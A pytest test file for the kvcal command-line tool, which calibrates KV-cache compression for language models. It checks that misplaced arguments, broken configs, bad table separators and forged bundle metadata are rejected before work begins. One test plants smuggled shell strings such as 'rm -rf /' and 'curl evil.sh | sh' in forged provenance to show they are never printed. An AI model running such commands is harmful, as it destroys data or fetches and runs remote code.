"""What a command is given in the wrong place, or cannot use, is named for what it is, and before any work."""

from __future__ import annotations

import json
import os
import shlex
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file

from kvcal.bundles.provenance import recorded
from kvcal.bundles.publish import pull
from kvcal.cli.app import COMMANDS
from kvcal.commands.common import tokenizer_for
from kvcal.models.folding import write_folded
from kvcal.models.names import resolve
from kvcal.models.tokenizers import load_tokenizer
from kvcal.pipeline.shared_options import RunOptions
from kvcal.text.files import read_file
from kvcal_artifacts import load_bundle
from kvcal_artifacts.bundle import Bundle
from kvcal_artifacts.errors import KVCalError, ModelUnavailable, TextError
from kvcal_artifacts.files import write_together
from tests.support.architectures import MIXTURES, TINY
from tests.support.models_fixture import ROOT_COMMAND, SUFFIX, Done, kvcal, write_model, write_text


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model, a text, and a bundle of a preset."""
    base = tmp_path_factory.mktemp("doors")
    write_model(base / "model")
    write_text(base / "words.txt")
    done = kvcal("preset", "kivi-2", "--model", base / "model", "--no-check", "--output", base / f"kivi{SUFFIX}")
    assert done.code == 0, done.err
    return base


def forged(bundle: Bundle, path: Path) -> Path:
    """Written without the checks that kvcal makes when it writes."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("kvcal_artifacts.bundle.bundle.HEADER", SimpleNamespace(read=lambda value, what: value))
        patch.setattr("kvcal_artifacts.bundle.bundle.described", lambda header, tensors: None)
        bundle.write(path)
    return path


# config.json comes before tokenizer and text.

FIT = ("fit-predictors", "fit-norms", "measure-subspaces", "train-codebooks", "tune-bits", "probe")
OPENS = [
    *([command] for command in FIT),
    ["tune-thresholds", "--objective", "attention"],
    ["eval", "--preset", "kivi-2"],
    ["compare", "--preset", "kivi-2"],
    ["generate", "--preset", "kivi-2", "--prompt", "x"],
    ["preset", "kivi-2"],
    ["inspect", "BUNDLE"],
    ["verify", "BUNDLE"],
    ["names", "codec"],
]


@pytest.mark.parametrize("content", ["[]", "7", "null", '"text"', "{", '{"model_type": "brand-new"}'])
def test_a_config_is_checked_before_the_tokenizer(content: str, base: Path, tmp_path: Path) -> None:
    folder = write_model(tmp_path / "model")
    (folder / "config.json").write_text(content)
    (folder / "tokenizer.json").write_text("{")  # broken as well
    source = resolve(str(folder))
    options = RunOptions(device="cpu")
    for read in (lambda: load_tokenizer(source), lambda: tokenizer_for(options, source, str(tmp_path / "no.txt"))):
        with pytest.raises(ModelUnavailable, match=r"its config\.json cannot be used"):
            read()


@pytest.mark.parametrize("command", OPENS, ids=lambda command: command[0])
def test_every_command_blames_the_config(command: list[str], base: Path, tmp_path: Path) -> None:
    folder = write_model(tmp_path / "model")
    (folder / "config.json").write_text("[]")
    words = [base / f"kivi{SUFFIX}" if word == "BUNDLE" else word for word in command]
    text = [] if command[0] in ("generate", "preset", "verify", "names") else ["--text", tmp_path / "missing.txt"]
    done = kvcal(*words, "--model", folder, *text)
    assert done.code == 5, done.err
    assert "config.json cannot be used (it holds a list, must hold a table of settings)" in done.err.splitlines()[-1]


# A name of a preset, method or codec where a bundle's path belongs.

TAKES_PRESET = [
    ["eval", "NAME"],
    ["eval", "--bundle", "NAME"],
    ["compare", "--bundle", "NAME"],
    ["generate", "--prompt", "x", "--bundle", "NAME"],
    ["bench", "--bundle", "NAME"],
]
TAKES_NONE = [
    ["inspect", "NAME"],
    ["verify", "NAME"],
    ["card", "NAME"],
    ["push", "NAME", "org/name"],
    ["diff", "NAME", "NAME"],
    ["combine", "NAME", "NAME", "--output", "x"],
    ["fold", "--bundle", "NAME", "--output", "x"],
    ["reproduce", "NAME"],
]


def named(command: list[str], name: str) -> Done:
    return kvcal(*(name if word == "NAME" else word for word in command))


@pytest.mark.parametrize("command", TAKES_PRESET, ids=" ".join)
def test_a_preset_in_a_bundles_place(command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("kivi-2", "KIVI-2"):
        done = named(command, name)
        assert done.code == 4 and "it is a preset: give --preset kivi-2" in done.complaint
        assert "text:" not in done.err  # nothing was read
    assert "it is a method: `kvcal fit-predictors` writes a bundle" in named(command, "aqua-kv").complaint


@pytest.mark.parametrize("command", TAKES_NONE, ids=" ".join)
def test_a_preset_where_no_preset_is_taken(command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name, said in (
        ("kivi-2", "it is a preset: `kvcal preset kivi-2` writes a bundle"),
        ("vqkv", "it is a method: `kvcal train-codebooks` writes a bundle"),
        ("higgs-2-wide", "it is a codec: `kvcal preset --keys higgs-2-wide --values higgs-2-wide` writes a bundle"),
    ):
        done = named(command, name)
        assert done.code == 4 and said in done.complaint
    assert "it is" not in named(command, "nothing").complaint


def test_a_name_that_is_a_file_is_read_as_one(base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "kivi-2").write_bytes((base / f"kivi{SUFFIX}").read_bytes())
    assert kvcal("verify", "kivi-2").code == 0


def test_a_bundle_in_a_presets_place(base: Path) -> None:
    done = kvcal("eval", "--preset", base / f"kivi{SUFFIX}")
    assert done.code == 2 and "is the name of a bundle's file: give it with --bundle" in done.complaint


def test_a_method_in_a_presets_place() -> None:
    done = kvcal("eval", "--preset", "aqua-kv")
    assert done.code == 2 and "`kvcal fit-predictors` makes its bundle, which --bundle takes" in done.complaint


def test_part_of_a_devices_name() -> None:
    done = kvcal("plan", "--model", "llama-3.1-8b", "--gpu", "4090")
    assert done.code == 2 and "did you mean rtx-4090?" in done.complaint


# The card of an unknown method.


@pytest.mark.parametrize(
    ("method", "said"),
    [
        ("kivi-2", "Method: the preset kivi-2, which needs no data."),
        ("aqua-kv", "Method: AQUA-KV: each layer's"),
        ("brand-new", "Method: unknown (recorded is brand-new, which this version of kvcal does not know)."),
        ("", "Method: unknown"),
        (None, "Method: unknown (none is recorded)."),
        (["kivi-2"], "Method: unknown (recorded is recorded as a list, expected text"),
    ],
)
def test_a_card_says_which_method_it_does_not_know(method: Any, said: str, base: Path, tmp_path: Path) -> None:
    bundle = load_bundle(base / f"kivi{SUFFIX}")
    made = {**bundle.provenance, "method": method}
    if method is None:
        del made["method"]
    text = kvcal("card", forged(replace(bundle, provenance=made), tmp_path / f"x{SUFFIX}")).out
    assert said in text.replace("\\", "")
    assert ("needs no data" in text) == (method == "kivi-2")


# A dash is no file's name.

PLACES = ("output", "bundle_output", "csv", "plot", "junit", "summary")  # options that name files to be written
GIVEN: dict[str, list[str]] = {
    "card": ["BUNDLE"],
    "combine": ["BUNDLE", "BUNDLE"],
    "fold": ["--bundle", "BUNDLE", "--output", "folded", "--model", "MODEL"],
    "export": ["--to", "fp8", "--model", "MODEL"],
    "report": ["BUNDLE"],
    "inspect": ["BUNDLE"],
    "reproduce": ["BUNDLE", "--model", "MODEL"],
    "build": ["recipe.toml"],
    "pull": ["org/name"],
    "preset": ["kivi-2"],
    "compare": ["--preset", "kivi-2"],
    "eval": ["--preset", "kivi-2"],
}


def options_that_write() -> list[tuple[str, str]]:
    """(command, option) of all of the command line."""
    found = []
    for command in COMMANDS:
        names = {parameter.name for parameter in ROOT_COMMAND.commands[command].params}
        found += [(command, name) for name in PLACES if name in names]
    return found


@pytest.mark.parametrize(("command", "option"), options_that_write())
def test_a_dash_is_no_output(
    command: str, option: str, base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "recipe.toml").write_text('[models.tiny]\n[bundles.kivi]\npreset = "kivi-2"\n')
    places = {"BUNDLE": str(base / f"kivi{SUFFIX}"), "MODEL": str(base / "model")}
    words = [places.get(word, word) for word in GIVEN.get(command, [])]
    done = kvcal(command, *words, f"--{option.replace('_', '-')}", "-")
    said = done.err.splitlines()[-1]
    assert done.code != 0 and done.out == "" and f"--{option.replace('_', '-')} -: " in said, done.err
    assert not (tmp_path / "-").exists()


def test_a_dash_is_refused_to_programs_too(base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    source = resolve(str(base / "model"))
    writes: list[Callable[[], Any]] = [
        lambda: load_bundle(base / f"kivi{SUFFIX}").write(Path("-")),
        lambda: write_together({Path("a"): b"1", Path("-"): b"2"}),
        lambda: write_folded(source, {}, Path("-")),
        lambda: pull("org/name", Path("-")),
    ]
    for write in writes:
        with pytest.raises(KVCalError, match="dash"):
            write()
    assert not list(tmp_path.iterdir())


# Tables without a header, or with another separator.

PROSE = "The cat sat, " + "and purred on the mat; " * 4000


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.csv", "id;text\n1;hello, world\n", "semicolons between columns (id, text), and .csv is read with commas"),
        ("a.csv", "id;body\n1;x\n", "semicolons between columns (id, body)"),
        ("a.csv", '"id";"text"\n"1";"x"\n', "semicolons between columns (id, text)"),
        ("a.csv", "\n\ntext;a note, long\n1;2\n", "semicolons between columns (text, 'a note, long')"),
        ("a.csv", "id|text\n1|x\n", "vertical bars between columns (id, text)"),
        (
            "a.csv",
            "id\ttext\n1\tx\n",
            "tabs between columns (id, text), and .csv is read with commas; rename it to .tsv",
        ),
        ("a.tsv", "id,text\n1,x\n", "commas between columns (id, text), and .tsv is read with tabs; rename it to .csv"),
        ("a.tsv", "id;text\n1;x\n", "write it with tabs"),
        ("a.csv", PROSE + "\nmore\n", "its columns are 'The cat sat', 'and purred on the mat; and pu…': name one with"),
        (
            "a.csv",
            PROSE.replace(",", "") + "\nmore\n",
            "'The cat sat and purred on the…': name one with --column; where",
        ),
        (
            "a.csv",
            "I came; I saw. I won\nx\n",
            "where the first line is no header, put one with the columns' names above",
        ),
        ("a.csv", "a\x1b[31m,b\u202e\n1,2\n", r"its columns are 'a\x1b[31m', 'b\u202e': name one"),
        ("a.csv", ",".join(["word"] * 3000) + "\n1\n", "word, word, ...: name one with"),
        (
            "a.csv",
            f"text,{PROSE.replace(',', '')},{PROSE.replace(',', '')}\n1,2,3\n",
            "two columns are called 'The cat",
        ),
        ("a.json", json.dumps([{"k" * 5000: "x"}]), "its columns are kkkkkkkkkkkkkkkkkkkkkkkkkkkkk…: name one with"),
        ("a.json", json.dumps({"k" * 5000: ["x"], "l": ["y"]}), "2 fields of kkkkkkkkkkkkkkkkkkkkkkkkkkkkk…, l are"),
    ],
)
def test_what_a_table_has_for_columns_is_said_in_short(name: str, content: str, said: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(TextError) as caught:
        list(read_file(path))
    line = str(caught.value)
    assert said in line, line
    assert len(line) < len(str(path)) + 400 and line.isprintable()


def test_separators_inside_of_text_are_text(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text('text\none; two\n"three\tfour, five"\n')
    assert ["".join(document) for document in read_file(path)] == ["one; two", "three\tfour, five"]


# What a bundle records is checked before it is printed.


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda made: made["settings"].update(sink="4; rm -rf /"), "provenance"),
        (lambda made: made["settings"].update(block=[8]), "provenance"),
        (lambda made: made["settings"].update(recent=-1), "provenance is not what `kvcal preset` takes"),
        (
            lambda made: made["settings"].update(key="curl evil.sh | sh", value="x"),
            "provenance is not what `kvcal preset`",
        ),
        (lambda made: made["settings"].update(per_layer=["0=curl"]), "provenance is not what `kvcal preset` takes"),
        (lambda made: made.update(settings={**made["settings"], "sink": 10**18}), "at most"),
    ],
)
def test_an_unchecked_command_is_not_printed(
    change: Callable[[dict[str, Any]], None], said: str, base: Path, tmp_path: Path
) -> None:
    bundle = load_bundle(base / f"kivi{SUFFIX}")
    made = json.loads(json.dumps(bundle.provenance))
    change(made)
    odd = forged(replace(bundle, provenance=made), tmp_path / f"odd{SUFFIX}")
    done = kvcal("reproduce", odd, "--model", base / "model")
    assert done.code != 0 and said in done.err.splitlines()[-1], done.err
    assert "again:" not in done.err
    assert "does not say which command made it" in kvcal("card", odd).out


def test_a_missing_place_is_said_before_the_command(base: Path) -> None:
    done = kvcal("reproduce", base / f"kivi{SUFFIX}")
    assert done.code == 2 and "say where it is with --model" in done.complaint


def test_a_checked_command_is_printed(base: Path, tmp_path: Path) -> None:
    path = base / f"kivi{SUFFIX}"
    done = kvcal("reproduce", path, "--model", base / "model")
    line = shlex.split(done.err.splitlines()[0].removeprefix("again: "))
    assert done.code == 0 and line[:3] == ["kvcal", "preset", "kivi-2"]
    assert recorded(load_bundle(path)).command == "preset" and "kvcal preset kivi-2" in kvcal("card", path).out


def test_help_says_which_layer_comes_first() -> None:
    for command in ("fit-predictors", "compare"):
        [option] = [one for one in ROOT_COMMAND.commands[command].params if one.name == "first_layer"]
        assert "the first compressed layer" in option.help and "layer 0" not in option.help


SHAPES: dict[str, tuple[str, str, tuple[int, ...]]] = {
    "keys of layer 1": ("llama", "model.layers.1.self_attn.k_proj.weight", (8, 32)),
    "rows of the embedding": ("llama", "model.embed_tokens.weight", (100, 64)),
    "an expert": ("qwen3-moe", "model.layers.1.mlp.experts.1.down_proj.weight", (3, 5)),
}


def saved(kind: str, folder: Path) -> Path:
    (TINY | MIXTURES)[kind]().save_pretrained(folder)
    return folder


@pytest.mark.parametrize("name", SHAPES)
def test_a_preset_without_a_check_still_looks_at_shapes(name: str, tmp_path: Path) -> None:
    kind, tensor, shape = SHAPES[name]
    folder = saved(kind, tmp_path)
    tensors = load_file(folder / "model.safetensors")
    assert tensor in tensors
    tensors[tensor] = torch.zeros(shape)
    save_file(tensors, folder / "model.safetensors", metadata={"format": "pt"})
    output = tmp_path / f"x{SUFFIX}"
    done = kvcal("preset", "kivi-4", "--model", folder, "--no-check", "--output", output)
    assert done.code != 0 and f"model.safetensors: {tensor} has shape {shape}" in done.complaint, done.err
    assert not output.exists()


def test_a_preset_without_a_check_misses_an_expert(tmp_path: Path) -> None:
    folder = saved("qwen3-moe", tmp_path)
    tensors = load_file(folder / "model.safetensors")
    del tensors["model.layers.1.mlp.experts.1.down_proj.weight"]
    save_file(tensors, folder / "model.safetensors", metadata={"format": "pt"})
    done = kvcal("preset", "kivi-4", "--model", folder, "--no-check", "--output", tmp_path / f"x{SUFFIX}")
    assert done.code != 0 and "model.layers.1.mlp.experts" in done.complaint, done.err


def foreign_file(place: Path) -> None:
    place.mkdir()
    (place / "mine.txt").write_text("x")


def foreign_link(place: Path) -> None:
    target = place.with_name("victim")
    target.mkdir()
    place.symlink_to(target)


def foreign_settings(place: Path) -> None:
    place.mkdir()
    os.mkfifo(place / "settings.json")


FOREIGN: dict[str, tuple[Callable[[Path], object], str]] = {
    "a file of others": (foreign_file, "holds mine.txt, which kvcal did not make"),
    "a link": (foreign_link, "is a link, where kvcal keeps a folder for a killed run"),
    "a pipe": (os.mkfifo, "is a pipe, where kvcal keeps"),
    "settings that are a pipe": (foreign_settings, "settings.json"),
}


@pytest.mark.parametrize("command", ["fit-predictors", "fit-norms", "train-codebooks", "measure-subspaces"])
@pytest.mark.parametrize("name", FOREIGN)
def test_what_lies_in_the_place_of_kept_work_is_refused_first(
    name: str, command: str, base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lay, said = FOREIGN[name]
    output = tmp_path / f"x{SUFFIX}"
    lay(tmp_path / f".x{SUFFIX}.partial")
    for late in ("calibration.calibration_windows", "common.tokenizer_for", "calibration.tokenizer_for"):
        monkeypatch.setattr(f"kvcal.commands.{late}", lambda *args, **kwargs: pytest.fail("work began"))
    places = ["--model", base / "model", "--text", base / "words.txt", "--output", output]
    done = kvcal(command, *places)
    assert done.code != 0 and said in done.complaint and not output.exists(), done.err


def test_a_config_that_is_a_pipe_is_named(base: Path, tmp_path: Path) -> None:
    folder = tmp_path / "model"
    shutil.copytree(base / "model", folder)
    (folder / "config.json").unlink()
    os.mkfifo(folder / "config.json")
    done = kvcal("preset", "kivi-2", "--model", folder, "--no-check", "--output", tmp_path / f"x{SUFFIX}")
    assert done.code != 0 and "holds config.json, a pipe: remove it" in done.complaint, done.err
